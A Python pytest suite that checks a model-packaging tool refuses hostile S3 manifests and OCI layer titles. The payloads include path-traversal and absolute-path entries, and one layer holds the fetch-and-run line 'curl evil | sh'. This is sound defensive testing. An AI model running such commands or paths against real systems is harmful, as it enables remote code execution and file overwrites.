"""Hostile remotes (issue 13, items 1 and 2) against a real SeaweedFS S3 and a real
``docker-registry`` (2.8) on loopback: a remote manifest, OCI layer titles and S3 keys are
untrusted. Each hostile input is a typed error naming the field/key and the problem, never a
traceback; nothing is written outside the destination; nothing is left half-written.
"""

from __future__ import annotations

import hashlib
import io
import itertools
import json
import shutil
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from ggufship.errors import (
    GgufshipError,
    IntegrityError,
    ManifestError,
    UnlistedFileError,
    UnsafePathError,
)
from ggufship.integrity import sidecar_text
from ggufship.layout import file_set_problems, path_problem
from ggufship.manifest import MANIFEST_NAME, Manifest, ManifestFile, SourceInfo
from ggufship.publish import PublishRequest, PullError, _s3, publish, pull
from ggufship.publish import _modelpack as mp
from ggufship.publish._oci import OciTarget, pull_export, push_export
from ggufship.services import load_state
from tests.publish_fixtures import embedded_s3, embedded_s3_env

pytest_plugins = ["tests.services_fixtures"]
pytestmark = [pytest.mark.timeout(600)]

PAYLOAD = b"GGUF" + bytes(range(256)) * 4


# ---------------------------------------------------------------- helpers


def _source() -> dict[str, Any]:
    return {
        "checkpoint_sha256": "0" * 64,
        "architecture": "LlamaForCausalLM",
        "weights_format": "safetensors",
    }


def _manifest_bytes(*entries: tuple[str, bytes]) -> bytes:
    """A manifest.json listing ``entries`` (path, content), built as raw JSON: hostile paths included."""
    data = {
        "schema": "ggufship.manifest/v1",
        "name": "evil",
        "version": "1.0.0",
        "files": [
            {
                "path": path,
                "sha256": hashlib.sha256(body).hexdigest(),
                "size": len(body),
                "kind": "gguf",
                "quantization": "Q4_K_M",
            }
            for path, body in entries
        ],
        "source": _source(),
    }
    return json.dumps(data, indent=2).encode()  # ensure_ascii: lone surrogates survive as escapes


def _synthetic_export(root: Path, extra: dict[str, bytes] | None = None) -> Path:
    """A flat export (one GGUF + sidecar, a card, manifest.json) made of synthetic bytes."""
    out = root / "syn-1.0.0"
    out.mkdir(parents=True)
    gguf = "syn-1.0.0-Q4_K_M.gguf"
    (out / gguf).write_bytes(PAYLOAD)
    digest = hashlib.sha256(PAYLOAD).hexdigest()
    (out / f"{gguf}.sha256").write_text(sidecar_text(digest, gguf))
    card = b"# syn 1.0.0\n"
    (out / "README.md").write_bytes(card)
    manifest = Manifest(
        name="syn",
        version="1.0.0",
        files=(
            ManifestFile(path=gguf, sha256=digest, size=len(PAYLOAD), kind="gguf", quantization="Q4_K_M"),
            ManifestFile(
                path="README.md", sha256=hashlib.sha256(card).hexdigest(), size=len(card), kind="model-card"
            ),
        ),
        source=SourceInfo.model_validate(_source()),
    )
    (out / MANIFEST_NAME).write_text(manifest.to_json())
    for name, body in (extra or {}).items():
        (out / name).write_bytes(body)
    return out


def _entries(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir()) if parent.exists() else []


@pytest.fixture
def s3(services_factory: Any) -> tuple[Path, Any]:
    """(state_dir, raw minio client) of a fresh SeaweedFS with a bucket ``models``."""
    state_dir, _ = services_factory(services=("s3",))
    client = _s3.client_for(_s3.resolve_connection(embedded_s3(state_dir, bucket="models")))
    client.make_bucket("models")
    return state_dir, client


def _put(client: Any, key: str, body: bytes) -> None:
    client.put_object("models", key, io.BytesIO(body), len(body))


class RawRegistry:
    """Pushes hand-crafted ModelPack artifacts with the registry's own HTTP API (no ggufship code)."""

    def __init__(self, state_dir: Path) -> None:
        self.host = load_state(state_dir).services["registry"].endpoint.removeprefix("http://")
        self.http = httpx.Client(base_url=f"http://{self.host}", timeout=30, trust_env=False)

    def blob(self, repo: str, data: bytes) -> str:
        digest = mp.sha256_digest(data)
        started = self.http.post(f"/v2/{repo}/blobs/uploads/")
        assert started.status_code == 202, started.text
        location = started.headers["Location"]  # keeps its own query (_state): append the digest
        done = self.http.put(f"{location}{'&' if '?' in location else '?'}digest={digest}", content=data)
        assert done.status_code == 201, done.text
        return digest

    def push(self, repo: str, tag: str, layers: list[tuple[Any, bytes]]) -> str:
        """``layers``: (title annotation value, content). Returns the manifest digest."""
        config = b'{"descriptor":{"name":"evil"},"config":{"format":"gguf"},"modelfs":{"type":"layers"}}'
        descriptors = []
        for title, body in layers:
            descriptors.append(
                {
                    "mediaType": mp.MEDIA_TYPE_WEIGHT_RAW,
                    "digest": self.blob(repo, body),
                    "size": len(body),
                    "annotations": {mp.ANNOTATION_TITLE: title},
                }
            )
        manifest = {
            "schemaVersion": 2,
            "mediaType": mp.MANIFEST_MEDIA_TYPE,
            "artifactType": mp.ARTIFACT_TYPE_MODEL,
            "config": {
                "mediaType": mp.MEDIA_TYPE_MODEL_CONFIG,
                "digest": self.blob(repo, config),
                "size": len(config),
            },
            "layers": descriptors,
        }
        data = json.dumps(manifest).encode()
        put = self.http.put(
            f"/v2/{repo}/manifests/{tag}", content=data, headers={"Content-Type": mp.MANIFEST_MEDIA_TYPE}
        )
        assert put.status_code == 201, put.text
        return mp.sha256_digest(data)


@pytest.fixture
def raw_registry(services_factory: Any) -> Any:
    state_dir, _ = services_factory(name="reg", services=("registry",))
    reg = RawRegistry(state_dir)
    yield reg
    reg.http.close()


# ---------------------------------------------------------------- S3: a hostile manifest.json


def test_s3_manifest_with_an_absolute_entry_writes_nothing(
    s3: tuple[Path, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from ggufship.cli.main import main
    from ggufship.serve import ModelSourceError, ServeSettings, resolve_model
    from ggufship.sign import VerificationPolicy, generate_keypair

    state_dir, client = s3
    outside = tmp_path / "outside"
    outside.mkdir()
    target = outside / "pwned"
    base = "models/evil/1.0.0/"
    _put(client, base + MANIFEST_NAME, _manifest_bytes(("ok.gguf", PAYLOAD), (str(target), PAYLOAD)))
    _put(client, base + "ok.gguf", PAYLOAD)
    _put(client, base + "tmp/pwned", PAYLOAD)  # where a key for it could plausibly live
    uri = f"s3://models/{base}"
    work = tmp_path / "work"
    work.mkdir()
    conn = embedded_s3(state_dir, bucket="models")

    with pytest.raises(PullError) as err:
        pull(uri, work / "dest", s3=conn)
    message = str(err.value)
    assert f"s3://models/{base}{MANIFEST_NAME}" in message
    assert "files.1.path" in message and "absolute path" in message
    assert err.value.exit_code == 44

    _, public = generate_keypair(tmp_path / "keys")
    with pytest.raises(PullError, match="absolute path"):
        pull(uri, work / "dest", s3=conn, policy=VerificationPolicy(public_key=public))

    assert main(["pull", uri, "-o", str(work / "dest"), "--state-dir", str(state_dir)]) == 44
    assert (
        main(
            [
                "pull",
                uri,
                "-o",
                str(work / "dest"),
                "--state-dir",
                str(state_dir),
                "--public-key",
                str(public),
            ]
        )
        == 44
    )
    stderr = capsys.readouterr().err
    assert stderr.count("absolute path") == 2 and "Traceback" not in stderr

    for var, value in embedded_s3_env(state_dir).items():  # the CLI passes these on
        monkeypatch.setenv(var, value)
    with pytest.raises(ModelSourceError, match="absolute path"):
        resolve_model(ServeSettings(model=uri, n_threads=1, cache_dir=work / "cache", public_key=public))
    with pytest.raises(ModelSourceError, match="absolute path"):
        resolve_model(ServeSettings(model=uri, n_threads=1, cache_dir=work / "cache"))

    assert not target.exists() and _entries(outside) == []
    assert _entries(work) in ([], ["cache"])  # no dest, no staging left behind
    assert _entries(work / "cache") == []


@pytest.mark.parametrize(
    ("entry", "problem"),
    [
        ("../escape.gguf", "'..' segment"),
        ("sub/../../escape.gguf", "'..' segment"),
        ("./ok.gguf", "'.' segment"),
        ("a\\..\\..\\escape.gguf", "backslash"),
        ("manifest.json", "reserved"),
    ],
)
def test_s3_dotdot_and_friends_are_typed_errors(
    s3: tuple[Path, Any], tmp_path: Path, entry: str, problem: str
) -> None:
    state_dir, client = s3
    base = "models/evil/1.0.0/"
    _put(client, base + MANIFEST_NAME, _manifest_bytes((entry, PAYLOAD)))
    work = tmp_path / "work" / "inner"
    work.mkdir(parents=True)
    with pytest.raises(PullError, match=problem.replace(".", r"\.")) as err:
        pull(f"s3://models/{base}", work / "dest", s3=embedded_s3(state_dir, bucket="models"))
    assert "files" in str(err.value)
    assert _entries(work) == [] and _entries(tmp_path / "work") == ["inner"]


# ---------------------------------------------------------------- OCI: hostile and unlisted layers


def test_oci_unlisted_layers_are_refused(raw_registry: RawRegistry, tmp_path: Path) -> None:
    work = tmp_path / "work"  # tmp_path also holds the registry's state dir
    work.mkdir()
    manifest = _manifest_bytes(("model.gguf", PAYLOAD))
    raw_registry.push(
        "evil/extra",
        "1.0.0",
        [
            (MANIFEST_NAME, manifest),
            ("model.gguf", PAYLOAD),
            ("run.sh", b"#!/bin/sh\ncurl evil | sh\n"),
            ("sub/dir/evil.gguf", b"GGUF evil"),
        ],
    )
    dest = work / "pulled"
    with pytest.raises(UnlistedFileError) as err:
        pull_export(f"oci://{raw_registry.host}/evil/extra:1.0.0", dest)
    assert [p.split(":")[0] for p in err.value.problems] == ["run.sh", "sub/dir/evil.gguf"]
    assert "not listed in manifest.json" in str(err.value) and err.value.exit_code == 8
    assert _entries(work) == []

    # through the front and the CLI: the same refusal, exit 8, no traceback
    with pytest.raises(UnlistedFileError):
        pull(f"oci://{raw_registry.host}/evil/extra:1.0.0", dest)
    assert _entries(work) == []

    # a listed file without a layer: missing, the pull fails the same way
    both = _manifest_bytes(("model.gguf", PAYLOAD), ("other.gguf", b"GGUF other"))
    raw_registry.push("evil/extra", "short", [(MANIFEST_NAME, both), ("model.gguf", PAYLOAD)])
    with pytest.raises(IntegrityError, match=r"other\.gguf: missing"):
        pull_export(f"oci://{raw_registry.host}/evil/extra:short", dest)
    assert _entries(work) == []

    # the listed files alone: delivered exactly, nothing else
    raw_registry.push("evil/extra", "clean", [(MANIFEST_NAME, manifest), ("model.gguf", PAYLOAD)])
    pull_export(f"oci://{raw_registry.host}/evil/extra:clean", dest)
    assert _entries(dest) == [MANIFEST_NAME, "model.gguf"]


def test_oci_cli_pull_of_unlisted_layers_exits_8(
    raw_registry: RawRegistry, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    work = tmp_path / "work"  # tmp_path also holds the registry's state dir
    work.mkdir()
    from ggufship.cli.main import main

    manifest = _manifest_bytes(("model.gguf", PAYLOAD))
    raw_registry.push("evil/cli", "1", [(MANIFEST_NAME, manifest), ("model.gguf", PAYLOAD), ("run.sh", b"x")])
    assert main(["pull", f"oci://{raw_registry.host}/evil/cli:1", "-o", str(work / "d")]) == 8
    err = capsys.readouterr().err
    assert "run.sh" in err and "not listed" in err and "Traceback" not in err
    assert _entries(work) == []


@pytest.mark.parametrize(
    ("title", "problem"),
    [
        (".", "'.' segment"),
        ("..", "'..' segment"),
        ("../escape.gguf", "'..' segment"),
        ("/tmp/pwned.gguf", "absolute path"),
        ("", "empty path"),
        (None, "not a string"),
        ("a\\b", "backslash"),
        ("model.gguf", "second layer"),
    ],
)
def test_oci_hostile_layer_titles_are_typed_errors(
    raw_registry: RawRegistry, tmp_path: Path, title: Any, problem: str
) -> None:
    work = tmp_path / "work"  # tmp_path also holds the registry's state dir
    work.mkdir()
    manifest = _manifest_bytes(("model.gguf", PAYLOAD))
    raw_registry.push("evil/title", "1", [(MANIFEST_NAME, manifest), ("model.gguf", PAYLOAD), (title, b"x")])
    with pytest.raises(UnsafePathError) as err:
        pull_export(f"{raw_registry.host}/evil/title:1", work / "d")
    assert "layers[2]" in str(err.value) and "title" in str(err.value) and problem in str(err.value)
    assert _entries(work) == []


def test_oci_manifest_listing_an_absolute_path_is_refused(raw_registry: RawRegistry, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    target = str(outside / "pwned.gguf")
    manifest = _manifest_bytes((target, PAYLOAD))
    raw_registry.push("evil/abs", "1", [(MANIFEST_NAME, manifest), ("pwned.gguf", PAYLOAD)])
    with pytest.raises(ManifestError, match="absolute path") as err:
        pull_export(f"{raw_registry.host}/evil/abs:1", tmp_path / "work" / "d")
    assert f"{raw_registry.host}/evil/abs@sha256:" in str(err.value) and "files.0.path" in str(err.value)
    assert ".pull-" not in str(err.value)  # names the artifact, not the staging directory
    assert _entries(outside) == [] and _entries(tmp_path / "work") == []


# ---------------------------------------------------------------- publish: signature vs manifest


def test_publish_refuses_an_export_whose_signature_and_manifest_disagree(
    services_factory: Any, tmp_path: Path
) -> None:
    from ggufship.sign import SigningRequest, VerificationPolicy, generate_keypair, sign_export

    state_dir, _ = services_factory(services=("s3", "registry"))
    registry = load_state(state_dir).services["registry"].endpoint.removeprefix("http://")
    private, public = generate_keypair(tmp_path / "keys")
    request = PublishRequest(
        s3=embedded_s3(state_dir, bucket="models", create_bucket=True),
        oci=OciTarget(registry, "models/syn"),
    )
    client = _s3.client_for(_s3.resolve_connection(embedded_s3(state_dir, bucket="models")))

    # a signed file the manifest does not list: publish would drop it, the artifact could never verify
    extra = _synthetic_export(tmp_path / "extra", {"notes.txt": b"signed, not listed\n"})
    sign_export(extra, SigningRequest(private_key=private))
    with pytest.raises(UnlistedFileError) as err:
        publish(extra, request)
    assert err.value.problems == [
        "notes.txt: signed but not listed in manifest.json (would not be published)"
    ]
    with pytest.raises(UnlistedFileError, match=r"notes\.txt"):
        push_export(extra, OciTarget(registry, "models/syn"))
    assert not client.bucket_exists("models")  # refused before anything went up
    tags = httpx.get(f"http://{registry}/v2/models/syn/tags/list", timeout=10)
    assert tags.status_code == 404

    # a delivered file the signature does not cover (a sidecar added after signing)
    late = _synthetic_export(tmp_path / "late")
    sign_export(late, SigningRequest(private_key=private))
    digest = hashlib.sha256((late / "README.md").read_bytes()).hexdigest()
    (late / "README.md.sha256").write_text(sidecar_text(digest, "README.md"))
    with pytest.raises(UnlistedFileError, match=r"README\.md\.sha256: delivered but not signed"):
        publish(late, request)

    # agreeing: published, and both pulls verify under the key
    good = _synthetic_export(tmp_path / "good")
    sign_export(good, SigningRequest(private_key=private))
    result = publish(good, request)
    policy = VerificationPolicy(public_key=public)
    for uri, dest in ((result.s3.uri, "from-s3"), (f"oci://{registry}/models/syn:1.0.0", "from-oci")):
        pulled = pull(uri, tmp_path / dest, policy=policy, s3=embedded_s3(state_dir, bucket="x"))
        assert _entries(pulled) == _entries(good)


# ---------------------------------------------------------------- property-based

_counter = itertools.count()
_SEGMENTS = st.sampled_from(
    ["", ".", "..", "a", "b.gguf", "model.sig", "manifest.json", "x.sha256", "~", " ", "é", "{OUT}", "sub"]
)
_CHARS = st.characters(exclude_categories=())  # every code point, surrogates and controls included
_HOSTILE_PATH = st.one_of(
    st.sampled_from(["a.gguf", "sub/dir/b.gguf", "é ~.gguf"]),  # some must be accepted, and are
    st.lists(_SEGMENTS, min_size=1, max_size=5).map("/".join),
    st.tuples(st.sampled_from(["", "/", "../", "./", "{OUT}/", "\\"]), st.text(_CHARS, max_size=20)).map(
        "".join
    ),
    st.text(st.sampled_from("./\\a\x00\n"), min_size=1, max_size=10),
)
_HYPOTHESIS = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
    derandomize=True,
)


def _confined_ok(value: str) -> bool:
    return path_problem(value) is None and not file_set_problems([value])


@_HYPOTHESIS
@given(raw=_HOSTILE_PATH)
def test_hostile_s3_keys_are_pulled_confined_or_refused(
    raw: str, s3: tuple[Path, Any], tmp_path: Path
) -> None:
    state_dir, client = s3
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    entry = raw.replace("{OUT}", str(outside))
    n = next(_counter)
    base = f"h{n}/"
    _put(client, base + MANIFEST_NAME, _manifest_bytes((entry, PAYLOAD)))
    stored = False
    try:
        _put(client, base + entry, PAYLOAD)
        stored = True
    except Exception:  # a key the store refuses (NUL, surrogate, ...): the pull must still be typed
        pass
    work = tmp_path / f"w{n}"
    work.mkdir()
    try:
        dest = pull(f"s3://models/{base}", work / "dest", s3=embedded_s3(state_dir, bucket="models"))
    except GgufshipError as exc:
        assert not (stored and _confined_ok(entry)), f"a confined, stored entry was refused: {exc}"
        assert _entries(work) == []
        event(f"refused: {type(exc).__name__}")
    else:
        assert _confined_ok(entry)
        assert (dest / entry).read_bytes() == PAYLOAD
        assert (dest / entry).resolve().is_relative_to(dest.resolve())
        assert _entries(work) == ["dest"]
        event("pulled")
    assert _entries(outside) == []


@_HYPOTHESIS
@given(raw=_HOSTILE_PATH, listed=st.booleans())
def test_hostile_layer_titles_are_pulled_confined_or_refused(
    raw: str, listed: bool, raw_registry: RawRegistry, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    title = raw.replace("{OUT}", str(outside))
    n = next(_counter)
    if listed:  # the title is the manifest's own entry: fine iff it is a confined relative path
        manifest = _manifest_bytes((title, PAYLOAD))
        layers = [(MANIFEST_NAME, manifest), (title, PAYLOAD)]
    else:  # an extra layer next to a clean export: always refused
        manifest = _manifest_bytes(("model.gguf", PAYLOAD))
        layers = [(MANIFEST_NAME, manifest), ("model.gguf", PAYLOAD), (title, b"#!/bin/sh\n")]
    raw_registry.push("hyp/titles", f"t{n}", layers)
    work = tmp_path / f"w{n}"
    work.mkdir()
    try:
        dest = pull_export(f"{raw_registry.host}/hyp/titles:t{n}", work / "dest")
    except GgufshipError as exc:
        assert not (listed and _confined_ok(title)), f"a confined, listed title was refused: {exc}"
        # UnsafePathError, ManifestError, UnlistedFileError; or a bad sidecar (an extra layer titled
        # model.gguf.sha256 is a listed file's sidecar, and its bytes are no sha256sum line)
        assert isinstance(exc, IntegrityError), repr(exc)
        assert _entries(work) == []
        event(f"refused: {type(exc).__name__}")
    else:
        assert listed and _confined_ok(title)
        assert (dest / title).read_bytes() == PAYLOAD
        assert _entries(work) == ["dest"]
        event("pulled")
    assert _entries(outside) == []


def test_the_synthetic_export_helper_is_a_valid_export(tmp_path: Path) -> None:
    from ggufship.integrity import verify_export

    export = _synthetic_export(tmp_path)
    assert verify_export(export).checked == ("syn-1.0.0-Q4_K_M.gguf", "README.md")
    shutil.rmtree(export)
